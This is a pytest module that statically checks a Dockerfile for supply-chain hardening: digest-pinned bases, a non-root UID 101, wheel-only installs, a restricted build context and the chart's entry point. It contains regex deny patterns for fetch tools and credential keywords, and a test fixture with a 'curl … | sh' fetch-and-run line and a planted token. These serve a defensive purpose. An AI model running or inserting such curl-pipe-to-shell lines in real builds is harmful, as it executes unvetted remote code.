"""The Dockerfile, checked without a container engine (none runs on the project's machines):
pinned bases, a non-root numeric user, no downloads or credentials in RUN lines, only the
product's sources in the build context, the writable directories the chart mounts, and an
entry point that exists in the installed product. Where a builder is available, it builds."""

from __future__ import annotations

import re
import shutil
import subprocess
import tomllib
from dataclasses import dataclass
from importlib.metadata import entry_points

import pytest

from helm_client import CHART, ROOT

DOCKERFILE = ROOT / "Dockerfile"
PINNED = re.compile(r"^[a-z0-9./-]+(:[\w.-]+)?@sha256:[0-9a-f]{64}$")


@dataclass(frozen=True)
class Instruction:
    keyword: str
    arguments: str


def instructions(text: str) -> list[Instruction]:
    """Dockerfile instructions with continuation lines joined and comments dropped."""
    found = []
    logical = ""
    for line in text.splitlines():
        stripped = line.strip()
        if not logical and (not stripped or stripped.startswith("#")):
            continue
        if stripped.startswith("#"):
            continue
        logical += " " + stripped.removesuffix("\\") if logical else stripped.removesuffix("\\")
        if not stripped.endswith("\\"):
            keyword, _, arguments = logical.strip().partition(" ")
            found.append(Instruction(keyword.upper(), " ".join(arguments.split())))
            logical = ""
    return found


INSTRUCTIONS = instructions(DOCKERFILE.read_text())
ARGS = dict(
    i.arguments.partition("=")[::2]
    for i in INSTRUCTIONS
    if i.keyword == "ARG" and "=" in i.arguments
)


def stages() -> list[list[Instruction]]:
    found: list[list[Instruction]] = []
    for instruction in INSTRUCTIONS:
        if instruction.keyword == "FROM":
            found.append([])
        if found:
            found[-1].append(instruction)
    return found


def resolve(image: str) -> str:
    while match := re.fullmatch(r"\$\{(\w+)\}", image):
        image = ARGS[match.group(1)]
    return image


def test_every_base_image_is_pinned_by_digest() -> None:
    froms = [i.arguments.split()[0] for i in INSTRUCTIONS if i.keyword == "FROM"]
    assert len(froms) == 2
    for image in froms:
        assert PINNED.match(resolve(image)), f"{image} resolves to {resolve(image)}, not pinned"


def test_the_image_runs_as_uid_101_after_the_last_root_step() -> None:
    final = stages()[-1]
    users = [i for i in final if i.keyword == "USER"]
    assert [u.arguments for u in users] == ["101:101"]  # numeric: runAsNonRoot can check it
    last_run = max(n for n, i in enumerate(final) if i.keyword == "RUN")
    assert final.index(users[0]) > last_run
    assert 'test "$(id -u nginx)" = 101' in " ".join(i.arguments for i in final)


FETCH = re.compile(r"\b(curl|wget|git\s+clone|fetch|ftp|scp|rsync)\b|https?://")
CREDENTIAL = re.compile(
    r"(?i)((passw(or)?d|secret|token|api[_-]?key)\w*\s*[=:]|authorization:|://[^/\s]+@)"
)


def test_no_run_line_downloads_or_carries_credentials() -> None:
    for instruction in INSTRUCTIONS:
        if instruction.keyword in ("RUN", "ENV", "ARG"):
            assert not FETCH.search(instruction.arguments), instruction
            assert not CREDENTIAL.search(instruction.arguments), instruction
        assert not (instruction.keyword == "ADD" and "://" in instruction.arguments), instruction


def test_the_final_image_installs_python_packages_only_from_the_built_wheels() -> None:
    final = " ".join(i.arguments for i in stages()[-1] if i.keyword == "RUN")
    installs = re.findall(r"pip install [^&;]*", final)
    assert installs and all("--no-index" in command for command in installs)


def test_the_checks_above_can_fail() -> None:
    hostile = instructions(
        "FROM debian:bookworm-slim\nRUN curl -fsSL https://example.com/x | sh \\\n  && true\n"
        "ENV GITHUB_TOKEN=abc\nUSER root\n"
    )
    assert not PINNED.match(hostile[0].arguments)
    assert FETCH.search(hostile[1].arguments) and "&& true" in hostile[1].arguments
    assert CREDENTIAL.search(hostile[2].arguments)


def test_the_build_context_is_the_products_sources_only() -> None:
    lines = [
        line
        for line in (ROOT / ".dockerignore").read_text().splitlines()
        if line and not line.startswith("#")
    ]
    assert lines[0] == "*"
    allowed = {line[1:].rstrip("/") for line in lines if line.startswith("!")}
    assert allowed == {"pyproject.toml", "README.md", "src"}
    copies = [i.arguments for i in INSTRUCTIONS if i.keyword == "COPY"]
    sources = {part for c in copies if "--from" not in c for part in c.split()[:-1]}
    assert sources == {"pyproject.toml", "README.md", "src"}


def test_the_writable_directories_are_the_charts_empty_dirs() -> None:
    template = (CHART / "templates" / "_pod.tpl").read_text()
    (listing,) = re.findall(
        r'define "nginx-ingress.writableDirs".*?\(dict ([^)]*)\)', template, re.S
    )
    mounted = set(re.findall(r'"(/[^"]+)"', listing))
    run_lines = " ".join(i.arguments for i in INSTRUCTIONS if i.keyword == "RUN")
    (loop,) = re.findall(r"for directory in ([^;]*); do", run_lines)
    made = set(loop.split())
    assert mounted - {"/tmp"} == made


def test_the_entrypoint_is_the_products_console_script() -> None:
    (entrypoint,) = [i.arguments for i in INSTRUCTIONS if i.keyword == "ENTRYPOINT"]
    assert entrypoint == '["/usr/bin/tini", "--", "/opt/nginx-ingress/bin/nginx-ingress"]'
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    assert project["scripts"] == {"nginx-ingress": "nginx_ingress.cli:main"}
    (script,) = entry_points(group="console_scripts", name="nginx-ingress")
    assert script.value == "nginx_ingress.cli:main"
    assert callable(script.load())
    chart_args = (CHART / "templates" / "_args.tpl").read_text()
    assert "\n- run\n" in chart_args  # the chart's args start with the sub-command


def docker_works() -> bool:
    docker = shutil.which("docker")
    if docker is None:
        return False
    done = subprocess.run([docker, "info"], check=False, capture_output=True, timeout=30)
    return done.returncode == 0


@pytest.mark.skipif(not docker_works(), reason="no container engine runs here")
def test_the_image_builds_and_runs_as_101() -> None:
    tag = "nginx-ingress-py:test"
    subprocess.run(["docker", "build", "-t", tag, str(ROOT)], check=True, timeout=1800)
    done = subprocess.run(
        ["docker", "run", "--rm", "--read-only", "--entrypoint", "id", tag, "-u"],
        check=True, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.stdout.strip() == "101"
